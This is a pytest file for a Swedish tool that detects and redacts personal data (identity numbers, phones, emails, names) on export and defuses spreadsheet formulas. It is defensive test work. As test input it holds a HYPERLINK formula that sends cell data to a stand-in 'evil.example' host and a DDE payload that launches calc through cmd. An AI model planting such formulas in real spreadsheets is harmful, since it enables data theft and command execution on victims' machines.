"""Personal data is found before export, and stops it or is redacted; spreadsheets are defused."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from insightbank import vocabulary
from insightbank.cli.main import cli
from insightbank.exchange.packages.export import ExportOptions, PersonalDataError, export
from insightbank.exchange.privacy import EMAIL, NAME, PHONE, PNR, NameList, Scanner, load_names, luhn_ok, redact
from insightbank.exchange.spreadsheets.export import neutralise
from insightbank.insights import writes as insights
from insightbank.insights.records import InsightData, Quote
from insightbank.storage.engine import Bank


def kinds(text: str, names: tuple[str, ...] = ()) -> list[str]:
    return [h.kind for h in Scanner(NameList(names)).scan(text)]


@pytest.mark.parametrize(
    "text", ["811218-9876", "19811218-9876", "198112189876", "8112189876", "20811218+9876", "Han har pnr 811218-9876."]
)
def test_personal_identity_numbers_with_and_without_century(text) -> None:
    assert kinds(text) == [PNR]


def test_the_luhn_check_and_the_date_keep_other_numbers_out() -> None:
    assert luhn_ok("8112189876") and not luhn_ok("8112189875")
    assert kinds("811218-9875") != [PNR]  # wrong check digit
    assert kinds("811318-9876") != [PNR]  # month 13
    assert kinds("811278-9873") == [PNR]  # coordination number: day + 60
    assert kinds("Budget 2025: 1 200 000 kr, 45 % fler") == []
    assert kinds("Möte 2026-03-14 kl 10-12") == []


@pytest.mark.parametrize("text", ["070-123 45 67", "0701234567", "+46 70 123 45 67", "08-123 456 78", "031-12 34 56"])
def test_phone_numbers(text) -> None:
    assert kinds(f"ring {text} i morgon") == [PHONE]


def test_emails_and_names_from_the_list() -> None:
    assert kinds("skriv till anna.svensson@grums.se") == [EMAIL]
    assert kinds("Det sa Lisa till mig, och LISA igen", ("Lisa",)) == [NAME, NAME]
    assert kinds("Vi bor i Grums och Bo ringde", ("Bo",)) == [NAME]  # "bor" and "bo" (to live) are not "Bo"
    assert kinds("Elisabeth kom", ("Lisa",)) == []


def test_redaction_replaces_hits_and_keeps_the_rest() -> None:
    text = "Kim (811218-9876) nås på 070-123 45 67 eller kim@example.se"
    hits = Scanner(NameList(("Kim",))).scan(text)
    assert redact(text, hits) == "[NAMN] ([PERSONNUMMER]) nås på [TELEFON] eller [E-POST]"
    assert all("9876" not in h.masked() for h in hits)


def test_the_names_list_is_read_from_a_file(tmp_path) -> None:
    path = tmp_path / "namn.txt"
    path.write_text("# personal names\nAnna\n  Mohammed  \n\n", encoding="utf-8")
    assert load_names(path).names == ("Anna", "Mohammed")


def _insight(bank: Bank, quote: str, statement: str = "Föräldrar vill ha stöd tidigt") -> None:
    with bank.transaction() as conn:
        insights.insert(
            conn,
            insights.validate(
                vocabulary.load(conn),
                InsightData(
                    statement=statement,
                    perspectives=["clients"],
                    sensitivity="public",
                    quotes=[Quote(quote, "förälder")],
                ),
            ),
            "t",
        )


def test_a_personal_identity_number_in_a_quote_stops_the_export(bank, tmp_path) -> None:
    _insight(bank, "Mitt personnummer är 19811218-9876, skriv det")
    with bank.reading() as conn, pytest.raises(PersonalDataError, match="personnummer") as caught:
        export(conn, tmp_path / "p.zip", ExportOptions(), "t")
    assert "9876" not in str(caught.value) and not (tmp_path / "p.zip").exists()
    with bank.reading() as conn:
        report = export(conn, tmp_path / "p", ExportOptions(redact=True), "t")
    evidence = (tmp_path / "p" / "evidence.csv").read_text(encoding="utf-8")
    assert "[PERSONNUMMER]" in evidence and "19811218" not in evidence
    assert [f.hit.kind for f in report.redactions] == [PNR]


def test_the_cli_stops_and_redacts(bank, tmp_path, runner) -> None:
    _insight(bank, "Fråga Sara om det", statement="Ring 070-123 45 67 för att få hjälp")
    names = tmp_path / "namn.txt"
    names.write_text("Sara\n", encoding="utf-8")
    out = runner.invoke(cli, ["--db", bank.url, "export", str(tmp_path / "a.zip"), "--names", str(names)])
    assert out.exit_code == 2 and "telefon" in out.output and "namn" in out.output and "--redact" in out.output
    out = runner.invoke(cli, ["--db", bank.url, "export", str(tmp_path / "a.zip"), "--names", str(names), "--redact"])
    assert out.exit_code == 0 and "redacted" in out.output and (tmp_path / "a.zip").exists()


def test_neutralise() -> None:
    assert [neutralise(t) for t in ("=1+1", "+46", "-x", "@SUM(A1)", " =cmd", "ok", "")] == [
        "'=1+1",
        "'+46",
        "'-x",
        "'@SUM(A1)",
        "' =cmd",
        "ok",
        "",
    ]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


def test_excel_and_csv_exports_open_with_formulas_neutralised(bank, tmp_path) -> None:
    _insight(bank, "@SUM(1+1)*cmd|' /C calc'!A0", statement=FORMULA)
    with bank.reading() as conn:
        export(conn, tmp_path / "insikter.xlsx", ExportOptions(), "t")
        export(conn, tmp_path / "insikter.csv", ExportOptions(), "t")
    sheet = load_workbook(tmp_path / "insikter.xlsx").active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["statement"].value == "'" + FORMULA and row["statement"].data_type == "s"
    assert row["quotes"].value.startswith("'@") and row["perspectives"].value == "clients"
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
    with (tmp_path / "insikter.csv").open(encoding="utf-8-sig", newline="") as handle:
        (record,) = csv.DictReader(handle)
    assert record["statement"] == "'" + FORMULA and record["quotes"].startswith("'@")


def test_a_spreadsheet_export_goes_back_in(bank, tmp_path, runner) -> None:
    _insight(bank, "Vi visste inte vart vi skulle vända oss")
    with bank.reading() as conn:
        export(conn, tmp_path / "karta.xlsx", ExportOptions(), "t")
    other = tmp_path / "other.sqlite"
    out = runner.invoke(cli, ["--db", str(other), "import", str(tmp_path / "karta.xlsx")])
    assert out.exit_code == 0 and "created 1" in out.output, out.output


def test_export_paths_must_be_usable(bank, tmp_path) -> None:
    _insight(bank, "citat")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").write_text("x")
    from insightbank.errors import ConfigError

    with bank.reading() as conn, pytest.raises(ConfigError):
        export(conn, tmp_path / "full", ExportOptions(), "t")
    with bank.reading() as conn, pytest.raises(ConfigError):
        export(conn, tmp_path / "missing" / "p.zip", ExportOptions(), "t")
    assert Path(tmp_path / "full" / "x").read_text() == "x"
